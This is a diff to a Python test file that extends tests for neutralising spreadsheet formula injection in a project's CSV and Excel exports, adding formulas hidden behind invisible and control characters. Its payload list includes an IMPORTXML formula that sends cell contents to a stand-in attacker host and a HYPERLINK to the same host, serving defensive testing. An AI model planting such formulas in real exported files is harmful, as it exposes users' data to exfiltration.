@@ -6,17 +6,31 @@ import csv
 import io
 import subprocess
 import sys
+import unicodedata
+from itertools import dropwhile
 from pathlib import Path
 
 import pandas as pd
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from kursk_monitor import export
 from kursk_monitor.dataset import load_dataset
 from kursk_monitor.export import DANGEROUS_PREFIXES, neutralise, neutralise_text, to_csv_bytes, to_xlsx_bytes
+from kursk_monitor.formula_guard import FORMULA_STARTS, INVISIBLE_OTHERS, QUOTE
+
+# Characters that show nothing, drawn independently of the implementation (Unicode categories).
+INVISIBLE = st.characters(categories=("Cc", "Cf", "Zs", "Zl", "Zp"))
+
+
+def formula_after_invisible(text: str) -> bool:
+    """Oracle: the first character that is not a control, format, space or filler character starts a formula."""
+    invisible = ("Cc", "Cf", "Zs", "Zl", "Zp")
+    core = "".join(dropwhile(lambda c: unicodedata.category(c) in invisible or c in INVISIBLE_OTHERS, text))
+    return text.startswith(DANGEROUS_PREFIXES) or core.startswith(FORMULA_STARTS)
+
 
 ROOT = Path(__file__).resolve().parent.parent
 
@@ -39,12 +53,30 @@ INJECTIONS = [
     "－1+1",
     "＠SUM(1+1)",
     '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
+    # a formula behind characters that show nothing: spreadsheets and writers drop them
+    " =1+1 (leading space)",
+    '\x01=HYPERLINK("http://evil.example/","click")',
+    "\x1f\x1e@SUM(1+1)",
+    "\x85-1+1",
+    "\u00a0+1",
+    "\u200b=1+1",
+    "\u200d\u200c=1+1",
+    "\u200e=1+1",
+    "\u202e=1+1",
+    "\u2066@SUM(1)",
+    "\u2028=1+1",
+    "\u3000＝1+1",
+    "\ufeff=1+1",
+    "\u3164=1+1",
+    "\ufe0f=1+1",
+    "\n=1+1",
 ]
 SAFE_TEXTS = [
     "Sudzha",
     "Nordkoreanische Truppen in Kursk – Übersicht",
     "1,500 troops",
-    " =1+1 (leading space)",
+    "\u200bSudzha",
+    "\x01text",
     "'quoted already",
     "",
     "a=b",
@@ -138,12 +170,14 @@ def test_xlsx_several_sheets():
 @given(st.text())
 def test_property_output_never_starts_dangerous_unless_prefixed(text):
     out = neutralise_text(text)
-    if out.startswith(DANGEROUS_PREFIXES):
-        pytest.fail(f"dangerous output {out!r}")
-    if text.startswith(DANGEROUS_PREFIXES):
-        assert out == "'" + text
-    else:
-        assert out == text
+    assert not formula_after_invisible(out) or out.startswith(QUOTE), repr(out)
+    assert out == (QUOTE + text if formula_after_invisible(text) else text)
+
+
+@given(st.text(INVISIBLE, min_size=1, max_size=4), st.sampled_from(FORMULA_STARTS), st.text(max_size=20))
+def test_property_formula_behind_invisible_characters_is_prefixed(hidden, start, rest):
+    text = hidden + start + rest
+    assert neutralise_text(text) == QUOTE + text
 
 
 @given(st.lists(st.text(), min_size=1, max_size=5))
@@ -152,11 +186,21 @@ def test_property_csv_cells_safe(texts):
     rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig"), newline="")))
     cells = [row[0] if row else "" for row in rows[1:]]
     for original, cell in zip(texts, cells, strict=True):
-        assert not cell.startswith(DANGEROUS_PREFIXES)
+        assert not formula_after_invisible(cell) or cell.startswith(QUOTE)
         assert cell == neutralise_text(original)
 
 
-@given(st.text().filter(lambda s: not s.startswith(DANGEROUS_PREFIXES)))
+@given(st.lists(st.text(INVISIBLE, max_size=3).flatmap(lambda h: st.text(max_size=12).map(h.__add__)), max_size=6))
+@settings(deadline=None)
+def test_property_xlsx_never_holds_a_formula(texts):
+    book = load_workbook(io.BytesIO(to_xlsx_bytes(pd.DataFrame({"text": texts}))))
+    for row in book.active.iter_rows(min_row=2):
+        for cell in row:
+            assert cell.data_type != "f", repr(cell.value)
+            assert not formula_after_invisible(str(cell.value or "")) or str(cell.value).startswith(QUOTE)
+
+
+@given(st.text().filter(lambda s: not formula_after_invisible(s)))
 def test_property_safe_strings_round_trip(text):
     assert neutralise_text(text) == text
     frame = pd.DataFrame({"text": [text]})
@@ -225,7 +269,7 @@ def test_export_neutralises_hostile_data(tmp_path):
         text = (tmp_path / f"{name}.csv").read_text(encoding="utf-8-sig")
         for row in csv.reader(io.StringIO(text, newline="")):
             for cell in row:
-                assert not cell.startswith(DANGEROUS_PREFIXES), (name, cell)
+                assert not formula_after_invisible(cell) or cell.startswith(QUOTE), (name, cell)
 
 
 def test_built_in_table_download_is_off():
@@ -234,3 +278,21 @@ def test_built_in_table_download_is_off():
 
     config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
     assert config["client"]["disableDataExport"] is True
+
+
+@pytest.mark.parametrize(("lang", "count"), [("en", "40,000"), ("de", "40.000")])
+def test_a_cell_too_long_for_excel_says_so_in_the_workbook(lang, count):
+    text = "a" * 39_990 + "end of text"[:10]
+    frame = pd.DataFrame({"note": [text, "short"]})
+    book = load_workbook(io.BytesIO(to_xlsx_bytes(frame, lang=lang)))
+    long_cell, short_cell = (row[0] for row in book.active.iter_rows(min_row=2, values_only=True))
+    assert len(long_cell) == export.EXCEL_CELL_LIMIT
+    assert long_cell.startswith("a" * 1000)
+    assert long_cell.endswith(export.t("export.cut_for_excel", lang, n=count))
+    assert short_cell == "short"
+    rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig"), newline="")))
+    assert rows[1][0] == text  # the CSV keeps the whole text
+    limit = export.fmt_number(export.EXCEL_CELL_LIMIT, lang)
+    assert limit in export.t("export.cut_for_excel", lang, n=count) and limit in export.t(
+        "export.neutralised_note", lang
+    )
